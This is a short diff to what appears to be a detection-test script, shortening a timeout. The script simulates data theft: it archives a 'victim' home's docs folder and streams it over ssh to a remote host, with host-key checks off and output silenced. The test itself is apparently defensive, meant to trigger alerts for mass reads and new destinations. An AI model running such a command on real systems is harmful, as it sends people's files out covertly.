@@ -6,4 +6,4 @@
 # needs: remote
 # expect: mass_read, staging, new_destination
 set -u
-tar czf - -C "$SNTL_VICTIM_HOME" docs 2>/dev/null | timeout 10 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "op@$SNTL_REMOTE" 'cat > /tmp/d.tgz' > /dev/null 2>&1 || true
+tar czf - -C "$SNTL_VICTIM_HOME" docs 2>/dev/null | timeout 4 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "op@$SNTL_REMOTE" 'cat > /tmp/d.tgz' > /dev/null 2>&1 || true
